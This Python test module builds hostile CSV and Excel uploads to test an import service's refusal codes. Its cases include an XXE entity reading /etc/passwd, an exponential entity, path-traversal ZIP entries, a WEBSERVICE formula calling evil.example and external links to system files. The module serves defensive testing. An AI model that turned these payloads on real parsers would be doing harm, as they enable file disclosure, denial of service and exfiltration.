"""Tables that spoil the reader, the row, or whoever opens the answer in a spreadsheet."""

import io
import zipfile
from collections.abc import Iterator, Sequence

from tests.builders.workbooks import DAY, LINKS, MAIN, OFFICE, Raw, a_sheet, a_workbook, merged
from tests.hostile.case import Case, Channel, expecting
from tests.hostile.strings import BROKEN, FORMULAS, HEADERS, SIGNS, TEMPLATES

HEADER = ("单据编号", "来源系统", "工号", "岗位", "支持类型", "资料项", "数量", "备注")
Sent = tuple[str, bytes, tuple[str, ...], dict[str, object]]


def row(reference: str, **changes: object) -> list[object]:
    """A request for material as a row."""
    cells = dict(zip(HEADER, (reference, "hostile-table", "A1", "大客户经理", "公司资料", "宣传手册", "5", "无"), strict=True))
    return list({**cells, **changes}.values())


def cases() -> Iterator[Case]:
    """All of them."""
    for name, raw, right, more in _csvs():
        yield _case("csv", name, raw, right, more)
    for name, raw, right, more in _workbooks():
        yield _case("xlsx", name, raw, right, more)
    for group, texts in {"formulas": FORMULAS, "templates": TEMPLATES, "headers": HEADERS, "signs": SIGNS}.items():
        for name, text in texts.items():
            yield _case("csv", f"{group}: {name}", a_csv(row(f"T-{group}-{name}", 备注=text)), ("accepted",), {})
            yield _case("xlsx", f"{group}: {name}", _shared(f"TX-{group}-{name}", text), ("accepted",), {})


def _case(channel: Channel, name: str, raw: bytes, right: Sequence[str], more: dict[str, object]) -> Case:
    return Case(name=name, group="tables", channel=channel, payload=raw, expect=expecting(*right), more=more)


def a_csv(*rows: Sequence[object], header: Sequence[object] = HEADER) -> bytes:
    """Cells in quotes, lines ended by CRLF."""
    lines = [",".join('"' + str(cell).replace('"', '""') + '"' for cell in cells) for cells in (header, *rows)]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8", "surrogatepass")


def _csvs() -> Iterator[Sent]:
    good = row("C-good")
    yield "nothing", b"", ("refused:no_header",), {}
    yield "a header alone", a_csv(), ("nothing",), {}
    yield "a header twice", a_csv(header=[*HEADER, "数量"]), ("refused:header_twice",), {}
    yield "no header that identifies", a_csv(header=["a", "b"]), ("refused:header_missing",), {}
    yield "2,001 columns", a_csv(header=[*HEADER, *(f"c{n}" for n in range(2_001))]), ("refused:too_many_columns",), {}
    yield "a quote that never ends", a_csv(good) + b'"C-open,x\r\n', ("accepted+refused:bad_quotes",), {}
    yield "NUL bytes", a_csv(row("C-nul", 备注="a\0b")), ("returned", "refused:row_not_understood"), {}
    yield "GBK that claims to be UTF-8", a_csv(row("C-gbk", 备注="客户")).decode().encode("gbk"), ("accepted",), {}
    yield (
        "a charset that is none",
        a_csv(good),
        ("refused:unknown_charset",),
        {"headers": {"Content-Type": "text/csv; charset=utf-7"}},
    )
    yield (
        "GB18030 read as UTF-8",
        a_csv(row("C-u8")).decode().encode("gb18030"),
        ("refused:encoding",),
        {"headers": {"Content-Type": "text/csv; charset=utf-8"}},
    )
    yield "UTF-16", a_csv(row("C-16")).decode().encode("utf-16"), ("accepted",), {}
    yield from _rows_of_csv()


def _rows_of_csv() -> Iterator[Sent]:
    """Rows and cells that nobody should write."""
    good = row("C-good")
    yield "a cell of 32,768", a_csv(row("C-long", 备注="x" * 32_768)), ("refused:row_not_understood",), {}
    yield "a cell of 2 MB", a_csv(row("C-2mb", 备注="x" * 2_000_000)), ("refused:row_not_understood", "refused:bad_quotes"), {}
    yield "20,001 rows", a_csv(*[row(f"C-{n}") for n in range(20_001)]), ("refused:too_many_rows",), {}
    yield "more cells than headers", a_csv([*good, "mehr"]), ("refused:row_not_understood",), {}
    yield "a million blank lines", a_csv(row("C-blank")) + b"\r\n" * 1_000_000, ("accepted",), {}
    yield "a quantity that is a formula", a_csv(row("C-q", 数量="=1+1")), ("returned",), {}
    yield "a quantity of 1e400", a_csv(row("C-e", 数量="1e400")), ("returned",), {}
    yield "a type that is a path", a_csv(row("C-p", 支持类型="../../x")), ("returned",), {}
    yield "JSON that is none in a cell", a_csv(row("C-j", 资料项="[[[[")), ("refused:row_not_understood",), {}
    yield "deep JSON in a cell", a_csv(row("C-d", 资料项="[" * 5_000 + "]" * 5_000)), ("refused:row_not_understood",), {}
    for name, text in BROKEN.items():
        yield (
            f"{name} as a reference",
            a_csv(row(f"C-{text}")),
            ("refused:no_identity", "refused:bad_quotes", "refused:encoding", "refused:row_not_understood"),
            {},
        )
    yield "a header that is code", a_csv([*row("C-h"), "v"], header=[*HEADER, "{{191*7919}}$a.b\r\nx"]), ("accepted",), {}
    yield "binary", bytes(range(256)) * 40, ("refused:header_missing", "refused:encoding", "refused:bad_quotes"), {}


def _workbooks() -> Iterator[Sent]:
    head = list(HEADER)
    good = a_sheet([head, row("X-good")])
    yield "no ZIP", b"PK\x03\x04 nothing", ("refused:broken_workbook",), {}
    yield "an old workbook", b"\xd0\xcf\x11\xe0" + b"\0" * 600, ("refused:old_workbook",), {}
    yield "a CSV", a_csv(row("X-csv")), ("accepted",), {}
    yield "a ZIP of something else", _zip({"a.txt": "x"}), ("refused:broken_workbook",), {}
    yield "a ZIP with paths", _zip({"../../etc/cron.d/x": "x", "/etc/passwd": "x"}), ("refused:broken_workbook",), {}
    yield "half a workbook", a_workbook({"S": good})[:700], ("refused:broken_workbook",), {}
    yield (
        "a part that unpacks to 33 MiB",
        a_workbook({"S": a_sheet([head, ["x" * 30_000] * 8] * 140)}),
        ("refused:workbook_too_large",),
        {},
    )
    yield "a million empty rows", _rows_to(1_000_000, "X-million"), ("accepted",), {}
    yield "the farthest cell", _far(), ("refused:row_not_understood",), {}
    yield from _xml_of_workbooks()


def _xml_of_workbooks() -> Iterator[Sent]:
    """Parts that are XML of the wrong kind."""
    good = a_sheet([list(HEADER), row("X-good")])
    yield (
        "rows out of order",
        _sheet_of('<row r="5"><c r="A5"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>'),
        ("refused:broken_workbook", "refused:header_missing"),
        {},
    )
    yield (
        "entities",
        a_workbook({"S": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + good[38:]}),
        ("refused:has_a_doctype",),
        {},
    )
    yield (
        "an endless entity",
        a_workbook({"S": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + good[38:]}),
        ("refused:has_a_doctype",),
        {},
    )
    yield (
        "UTF-16 parts",
        a_workbook({"S": ""}, parts={"xl/worksheets/s0.xml": good[38:].encode("utf-16")}),
        ("refused:broken_workbook",),
        {},
    )
    yield from _cells_of_workbooks()


def _cells_of_workbooks() -> Iterator[Sent]:
    """Cells of every wrong kind."""
    yield "a formula with its result", _cell("X-f", Raw('t="str"><f>"a"&amp;"b"</f><v>ab</v>')), ("accepted",), {}
    yield "a formula without a result", _cell("X-fn", Raw("><f>191*7919</f>")), ("refused:row_not_understood",), {}
    yield "an error cell", _cell("X-err", Raw('t="e"><v>#REF!</v>')), ("refused:row_not_understood",), {}
    yield (
        "a formula that calls out",
        _cell("X-ws", Raw('t="str"><f>WEBSERVICE("http://evil.example/")</f><v>x</v>')),
        ("accepted",),
        {},
    )
    yield "digits that are lost", _cell("X-dig", Raw("><v>1234567890123456789</v>")), ("refused:row_not_understood",), {}
    yield "a date before all", _cell("X-day", Raw(f's="{DAY}"><v>-5</v>')), ("refused:row_not_understood",), {}
    yield "a date after all", _cell("X-day9", Raw(f's="{DAY}"><v>99999999</v>')), ("refused:row_not_understood",), {}
    yield "a shared text that is none", _cell("X-sst", Raw('t="s"><v>77777</v>')), ("refused:row_not_understood",), {}
    yield "infinity in a cell", _cell("X-inf", Raw("><v>1e999</v>")), ("refused:row_not_understood",), {}
    yield (
        "merged rows",
        a_workbook({"S": a_sheet([list(HEADER), row("X-m1"), row("X-m2")], after=merged("A2:A3"))}),
        ("refused:row_not_understood",),
        {},
    )
    yield from _sheets_of_workbooks()


def _sheets_of_workbooks() -> Iterator[Sent]:
    """Sheets, links and macros."""
    head = list(HEADER)
    good = a_sheet([head, row("X-good")])
    yield "two sheets", a_workbook({"S": good, "T": good}), ("refused:which_sheet",), {}
    yield (
        "a sheet that is not there",
        a_workbook({"S": good}),
        ("refused:which_sheet", "refused:no_such_sheet"),
        {"query": {"sheet": "nowhere"}},
    )
    yield (
        "a sheet by a path",
        a_workbook({"S": good}),
        ("refused:which_sheet", "refused:no_such_sheet"),
        {"query": {"sheet": "../../../etc/passwd"}},
    )
    yield "a hidden sheet beside", _hidden(), ("accepted", "refused:which_sheet"), {}
    yield "links to other files", a_workbook({"S": a_sheet([head, row("X-ext")])}, parts=_external()), ("accepted",), {}
    yield (
        "a macro inside",
        a_workbook({"S": a_sheet([head, row("X-vba")])}, parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0x"}),
        ("accepted",),
        {},
    )
    yield (
        "a sheet outside the file",
        a_workbook({"S": good}, parts={"xl/_rels/workbook.xml.rels": _pointing_out()}),
        ("refused:broken_workbook",),
        {},
    )


def _zip(parts: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return packed.getvalue()


def _sheet_of(data: str) -> bytes:
    return a_workbook({"S": f'<worksheet xmlns="{MAIN}"><sheetData>{data}</sheetData></worksheet>'})


def _rows_to(number: int, reference: str) -> bytes:
    plain = a_sheet([list(HEADER), row(reference)])
    rows = "".join(f'<row r="{n}"/>' for n in range(3, number))
    return a_workbook({"S": plain.replace("</sheetData>", f"{rows}</sheetData>")})


def _far() -> bytes:
    plain = a_sheet([list(HEADER)])
    return a_workbook({"S": plain.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')})


def _cell(reference: str, cell: Raw) -> bytes:
    return a_workbook({"S": a_sheet([list(HEADER), row(reference, 备注=cell)])})


def _shared(reference: str, text: str) -> bytes:
    """The text in a sheet, as XML can hold it."""
    sound = "".join(
        sign
        for sign in text
        if sign in "\t\n\r" or 0x20 <= ord(sign) <= 0xD7FF or 0xE000 <= ord(sign) <= 0xFFFD or ord(sign) > 0xFFFF
    )
    return a_workbook({"S": a_sheet([list(HEADER), row(reference, 备注=sound)])})


def _hidden() -> bytes:
    sheets = {"S": a_sheet([list(HEADER), row("X-hidden")]), "T": a_sheet([["geheim"]])}
    with zipfile.ZipFile(io.BytesIO(a_workbook(sheets))) as archive:
        book = archive.read("xl/workbook.xml").decode().replace('name="T"', 'name="T" state="veryHidden"')
    return a_workbook(sheets, parts={"xl/workbook.xml": book})


def _external() -> dict[str, str | bytes]:
    link = f'<Relationships xmlns="{LINKS}"><Relationship Id="x" Type="{OFFICE}/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    return {"xl/externalLinks/_rels/externalLink1.xml.rels": link, "xl/externalLinks/externalLink1.xml": "<externalLink/>"}


def _pointing_out() -> str:
    target = f'<Relationship Id="r0" Type="{OFFICE}/worksheet" Target="../../../../etc/passwd"/>'
    return f'<Relationships xmlns="{LINKS}">{target}</Relationships>'
